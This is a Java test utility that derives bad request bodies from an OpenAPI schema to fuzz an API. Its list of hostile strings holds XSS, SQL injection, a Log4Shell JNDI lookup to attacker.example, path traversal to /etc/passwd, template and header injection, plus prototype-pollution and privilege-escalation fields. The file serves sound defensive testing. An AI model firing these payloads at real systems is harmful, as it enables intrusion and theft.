package org.lernstadt.platform.testing.attack;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashSet;
import java.util.Iterator;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.UUID;

/**
 * Generates bad request bodies for one operation from its OpenAPI request schema, with a seeded
 * random source (the same seed gives the same bodies, so a failure can be replayed).
 *
 * <p>Starting from a sample body built from the schema (or an example the test gives), it produces
 * whole-body attacks (malformed, not JSON, empty, wrong top-level type, 5,000 levels of nesting,
 * above the body limit, invalid UTF-8, unknown and prototype-pollution fields, wrong media type)
 * and per-field attacks on every property, nested ones included (wrong types, NaN and Infinity,
 * numbers beyond any range, broken uuids, dates and enum values, null and missing required fields,
 * text with NUL or an unpaired surrogate). These must be {@link Expect#REFUSED refused}. Hostile
 * but well-formed values (script tags, SQL meta-characters, bidi overrides, 100,000-character
 * strings, empty and 10,000-element arrays, extreme numbers) may be accepted or refused, but must
 * {@link Expect#SURVIVES not break} the service.
 */
public final class BadInput {

  /** What the service must do with an attempt. */
  public enum Expect {
    /** Answer 4xx with problem details. */
    REFUSED,
    /** Answer 2xx, or 4xx with problem details; never 5xx. */
    SURVIVES
  }

  /** One request body to send; {@code contentType} null means {@code application/json}. */
  public record Attempt(String label, byte[] body, String contentType, Expect expect) {}

  /** Values that are valid JSON strings but hostile to a naive renderer, database or log. */
  static final List<String> HOSTILE_STRINGS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'; DROP TABLE offer; --",
          "' OR '1'='1",
          "\u202egnp.exe",
          "\u200b\ufeff\u2028\u2029",
          "\ud83d\ude00\ud83c\udff3\ufe0f\u200d\ud83c\udf08 \u4e2d\u6587 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
          "e" + "\u0301".repeat(500),
          "${jndi:ldap://attacker.example/a}",
          "../../../../etc/passwd",
          "{{7*7}}${7*7}",
          "%00%27%22",
          "line\r\nSet-Cookie: x=1",
          "   ",
          "",
          "a".repeat(100_000));

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  /** Escapes every non-ASCII character, so lone surrogates and NUL travel as JSON escapes. */
  private static final ObjectMapper WRITER =
      JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

  private static final int MAX_FIELD_ATTEMPTS = 45;

  private final OpenApiDocument api;
  private final Random random;

  public BadInput(OpenApiDocument api, long seed) {
    this.api = api;
    this.random = new Random(seed);
  }

  /** The attempts for a body of the given schema, starting from {@code example} if not null. */
  public List<Attempt> attempts(JsonNode schema, JsonNode example) {
    JsonNode root = api.resolve(schema);
    JsonNode base = example != null ? example : sample(root, 0);
    List<Attempt> whole = wholeBody(root, base);
    List<Attempt> fields = new ArrayList<>();
    List<Leaf> leaves = new ArrayList<>();
    collectLeaves(root, base, "", true, 0, leaves);
    int hostile = random.nextInt(HOSTILE_STRINGS.size());
    for (Leaf leaf : leaves) {
      fields.addAll(refusals(base, leaf));
      if (leaf.type().equals("string") && !leaf.schema().has("enum")) {
        // Two hostile strings per text field, rotating, so every one is tried across the fields.
        for (int i = 0; i < 2; i++) {
          String value = HOSTILE_STRINGS.get(hostile++ % HOSTILE_STRINGS.size());
          fields.add(
              survives(
                  leaf.pointer() + " = " + describe(value),
                  with(base, leaf.pointer(), NODES.textNode(value))));
        }
      }
      if (leaf.type().equals("array")) {
        JsonNode item = sample(api.resolve(leaf.schema().path("items")), 1);
        ArrayNode many = NODES.arrayNode();
        for (int i = 0; i < 10_000; i++) {
          many.add(item);
        }
        fields.add(
            survives(leaf.pointer() + " = []", with(base, leaf.pointer(), NODES.arrayNode())));
        fields.add(survives(leaf.pointer() + " = 10,000 items", with(base, leaf.pointer(), many)));
      }
      if (leaf.type().equals("integer") || leaf.type().equals("number")) {
        for (JsonNode extreme :
            List.<JsonNode>of(
                NODES.numberNode(Long.MAX_VALUE),
                NODES.numberNode(Integer.MIN_VALUE),
                NODES.numberNode(-0.0),
                NODES.numberNode(1e308))) {
          fields.add(
              survives(leaf.pointer() + " = " + extreme, with(base, leaf.pointer(), extreme)));
        }
      }
    }
    if (fields.size() > MAX_FIELD_ATTEMPTS) {
      Collections.shuffle(fields, random);
      fields = new ArrayList<>(fields.subList(0, MAX_FIELD_ATTEMPTS));
    }
    List<Attempt> all = new ArrayList<>(whole);
    all.addAll(fields);
    return all;
  }

  /** The sample body built for a schema: what the field attacks start from. */
  public JsonNode sample(JsonNode schema) {
    return sample(api.resolve(schema), 0);
  }

  private List<Attempt> wholeBody(JsonNode root, JsonNode base) {
    String json = write(base);
    List<Attempt> attempts = new ArrayList<>();
    attempts.add(refused("truncated JSON", json.substring(0, Math.max(1, json.length() - 1))));
    attempts.add(refused("JSON with a missing value", "{\"a\":,}"));
    attempts.add(refused("not JSON but markup", "<script>alert(1)</script>"));
    attempts.add(refused("bare NaN token", "NaN"));
    attempts.add(refused("empty body", ""));
    attempts.add(refused("null body", "null"));
    attempts.add(refused("a number as body", "42"));
    attempts.add(refused("a string as body", "\"x\""));
    String rootType = type(effective(root));
    if ("array".equals(rootType)) {
      attempts.add(refused("an object instead of the array", "{}"));
    } else if ("object".equals(rootType) && root.has("properties")) {
      attempts.add(refused("an array instead of the object", "[]"));
    }
    attempts.add(refused("5,000 nested arrays", "[".repeat(5_000) + "]".repeat(5_000)));
    String field = base.isObject() && base.fieldNames().hasNext() ? base.fieldNames().next() : "a";
    attempts.add(
        refused(
            "5,000 nested objects in " + field,
            "{\"" + field + "\":" + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_001)));
    attempts.add(
        refused(
            "body above the 1 MiB limit", "{\"" + field + "\":\"" + "x".repeat(1_100_000) + "\"}"));
    byte[] invalidUtf8 = ("{\"" + field + "\":\"\u00ff\"}").getBytes(StandardCharsets.ISO_8859_1);
    attempts.add(new Attempt("invalid UTF-8 byte", invalidUtf8, null, Expect.REFUSED));
    if (base.isObject()
        && root.has("properties")
        && !root.path("additionalProperties").isObject()) {
      ObjectNode unknown = base.deepCopy();
      unknown.putObject("__proto__").put("admin", true);
      attempts.add(refused("unknown field __proto__", write(unknown)));
      ObjectNode escalate = base.deepCopy();
      escalate.put("roles", "admin");
      attempts.add(refused("unknown field roles", write(escalate)));
    }
    attempts.add(new Attempt("as text/plain", bytes(json), "text/plain", Expect.REFUSED));
    attempts.add(
        new Attempt("as application/xml", bytes("<a/>"), "application/xml", Expect.REFUSED));
    attempts.add(survives("JSON followed by garbage", json + "}}]]"));
    return attempts;
  }

  private List<Attempt> refusals(JsonNode base, Leaf leaf) {
    List<Attempt> attempts = new ArrayList<>();
    String at = leaf.pointer();
    JsonNode wrongType =
        switch (leaf.type()) {
          case "string" -> NODES.objectNode().put("x", 1);
          case "integer", "number", "boolean" -> NODES.textNode("abc");
          case "array" -> NODES.objectNode().put("x", 1);
          case "object" -> NODES.arrayNode().add(1).add(2);
          default -> null;
        };
    if (wrongType != null) {
      attempts.add(refusedNode(at + " of the wrong type " + wrongType, with(base, at, wrongType)));
    }
    switch (leaf.type()) {
      case "number" -> {
        for (String special : List.of("NaN", "Infinity", "-Infinity")) {
          attempts.add(
              refusedNode(at + " = \"" + special + "\"", with(base, at, NODES.textNode(special))));
        }
        attempts.add(
            refusedNode(
                at + " = 1e400", with(base, at, NODES.numberNode(new BigDecimal("1e400")))));
      }
      case "integer" ->
          attempts.add(
              refusedNode(
                  at + " = 10^30", with(base, at, NODES.numberNode(BigInteger.TEN.pow(30)))));
      case "string" -> {
        String format = leaf.schema().path("format").asText("");
        if (leaf.schema().has("enum")) {
          attempts.add(
              refusedNode(
                  at + " = unknown enum value", with(base, at, NODES.textNode("NO_SUCH_VALUE"))));
        }
        if (!leaf.schema().has("enum")) {
          // No text column can hold these; stored they would fail or silently change.
          for (String unstorable :
              List.of("a\u0000b", "\ud800 lone high surrogate", "lone low \udfff")) {
            attempts.add(
                refusedNode(
                    at + " = " + describe(unstorable), with(base, at, NODES.textNode(unstorable))));
          }
        }
        switch (format) {
          case "uuid" ->
              attempts.add(
                  refusedNode(at + " = not-a-uuid", with(base, at, NODES.textNode("not-a-uuid"))));
          case "date" ->
              attempts.add(
                  refusedNode(at + " = 2026-02-30", with(base, at, NODES.textNode("2026-02-30"))));
          case "date-time" ->
              attempts.add(
                  refusedNode(at + " = yesterday", with(base, at, NODES.textNode("yesterday"))));
          default -> {}
        }
      }
      default -> {}
    }
    if (leaf.required()) {
      attempts.add(refusedNode(at + " = null", with(base, at, NODES.nullNode())));
      attempts.add(refusedNode(at + " missing", without(base, at)));
    }
    return attempts;
  }

  private record Leaf(String pointer, JsonNode schema, String type, boolean required) {}

  private void collectLeaves(
      JsonNode schema,
      JsonNode value,
      String pointer,
      boolean required,
      int depth,
      List<Leaf> out) {
    JsonNode s = effective(schema);
    String type = type(s);
    if (!pointer.isEmpty() && type != null) {
      out.add(new Leaf(pointer, s, type, required));
    }
    if (depth > 4) {
      return;
    }
    if ("object".equals(type) && value != null && value.isObject()) {
      Set<String> requiredNames = new HashSet<>();
      s.path("required").forEach(name -> requiredNames.add(name.asText()));
      for (Iterator<String> names = s.path("properties").fieldNames(); names.hasNext(); ) {
        String name = names.next();
        collectLeaves(
            s.path("properties").path(name),
            value.get(name),
            pointer + "/" + name,
            requiredNames.contains(name),
            depth + 1,
            out);
      }
    }
    if ("array".equals(type) && value != null && value.isArray() && !value.isEmpty()) {
      collectLeaves(s.path("items"), value.get(0), pointer + "/0", false, depth + 1, out);
    }
  }

  /**
   * The schema with references resolved, {@code allOf} merged and the first {@code oneOf} taken.
   */
  private JsonNode effective(JsonNode schema) {
    JsonNode s = api.resolve(schema);
    if (s.has("allOf")) {
      ObjectNode merged = NODES.objectNode();
      ObjectNode properties = merged.putObject("properties");
      ArrayNode required = merged.putArray("required");
      for (JsonNode part : s.get("allOf")) {
        JsonNode p = effective(part);
        p.fields()
            .forEachRemaining(
                f -> {
                  if (!f.getKey().equals("properties") && !f.getKey().equals("required")) {
                    merged.set(f.getKey(), f.getValue());
                  }
                });
        properties.setAll((ObjectNode) p.path("properties").deepCopy().require());
        p.path("required").forEach(required::add);
      }
      if (properties.isEmpty()) {
        merged.remove("properties");
      }
      return merged;
    }
    for (String choice : List.of("oneOf", "anyOf")) {
      if (s.has(choice)) {
        for (JsonNode option : s.get(choice)) {
          JsonNode o = effective(option);
          if (!"null".equals(type(o))) {
            return o;
          }
        }
      }
    }
    return s;
  }

  private static String type(JsonNode s) {
    JsonNode type = s.path("type");
    if (type.isTextual()) {
      return type.asText();
    }
    for (JsonNode t : type) {
      if (!t.asText().equals("null")) {
        return t.asText();
      }
    }
    return s.has("properties") ? "object" : null;
  }

  private JsonNode sample(JsonNode schema, int depth) {
    JsonNode s = effective(schema);
    if (s.has("example") && !s.get("example").isNull()) {
      return s.get("example");
    }
    if (s.has("enum") && !s.get("enum").isEmpty()) {
      return s.get("enum").get(0);
    }
    String type = type(s);
    if (type == null) {
      return NODES.objectNode();
    }
    return switch (type) {
      case "string" -> NODES.textNode(sampleString(s));
      case "integer" -> NODES.numberNode((long) clamp(s, 1));
      case "number" ->
          NODES.numberNode(
              s.has("minimum") && s.has("maximum")
                  ? (s.get("minimum").asDouble() + s.get("maximum").asDouble()) / 2
                  : clamp(s, 1.5));
      case "boolean" -> NODES.booleanNode(true);
      case "array" -> {
        ArrayNode array = NODES.arrayNode();
        int n = Math.max(1, s.path("minItems").asInt(1));
        for (int i = 0; i < n && depth < 6; i++) {
          array.add(sample(s.path("items"), depth + 1));
        }
        yield array;
      }
      default -> {
        ObjectNode object = NODES.objectNode();
        if (depth < 6) {
          s.path("properties")
              .fields()
              .forEachRemaining(p -> object.set(p.getKey(), sample(p.getValue(), depth + 1)));
        }
        yield object;
      }
    };
  }

  private String sampleString(JsonNode s) {
    String text =
        switch (s.path("format").asText("")) {
          case "uuid" -> new UUID(random.nextLong(), random.nextLong()).toString();
          case "date" -> "2027-03-15";
          case "date-time" -> "2027-03-15T10:00:00Z";
          case "time", "local-time" -> "10:00:00";
          case "email" -> "test@example.org";
          case "uri", "url" -> "https://example.org/x";
          default -> "Sample text";
        };
    int min = s.path("minLength").asInt(0);
    int max = s.path("maxLength").asInt(Integer.MAX_VALUE);
    while (text.length() < min) {
      text = text + "x";
    }
    return text.length() > max ? text.substring(0, max) : text;
  }

  private static double clamp(JsonNode s, double value) {
    double v = value;
    if (s.has("minimum") && v < s.get("minimum").asDouble()) {
      v = s.get("minimum").asDouble();
    }
    if (s.has("maximum") && v > s.get("maximum").asDouble()) {
      v = s.get("maximum").asDouble();
    }
    return v;
  }

  private static JsonNode with(JsonNode base, String pointer, JsonNode value) {
    JsonNode copy = base.deepCopy();
    int cut = pointer.lastIndexOf('/');
    JsonNode parent = copy.at(pointer.substring(0, cut));
    String name = pointer.substring(cut + 1);
    if (parent instanceof ObjectNode object) {
      object.set(name, value);
    } else if (parent instanceof ArrayNode array) {
      array.set(Integer.parseInt(name), value);
    }
    return copy;
  }

  private static JsonNode without(JsonNode base, String pointer) {
    JsonNode copy = base.deepCopy();
    int cut = pointer.lastIndexOf('/');
    if (copy.at(pointer.substring(0, cut)) instanceof ObjectNode parent) {
      parent.remove(pointer.substring(cut + 1));
    }
    return copy;
  }

  private static String describe(String value) {
    StringBuilder shown = new StringBuilder();
    value
        .codePoints()
        .limit(40)
        .forEach(
            c -> {
              if (c < 0x20 || c > 0x7e) {
                shown.append(String.format("\\u%04x", c));
              } else {
                shown.appendCodePoint(c);
              }
            });
    return "\"" + shown + (value.length() > 40 ? "...(" + value.length() + " chars)" : "") + "\"";
  }

  private static Attempt refused(String label, String body) {
    return new Attempt(label, bytes(body), null, Expect.REFUSED);
  }

  private static Attempt refusedNode(String label, JsonNode body) {
    return refused(label, write(body));
  }

  private static Attempt survives(String label, String body) {
    return new Attempt(label, bytes(body), null, Expect.SURVIVES);
  }

  private static Attempt survives(String label, JsonNode body) {
    return survives(label, write(body));
  }

  private static byte[] bytes(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  private static String write(JsonNode node) {
    try {
      return WRITER.writeValueAsString(node);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }
}
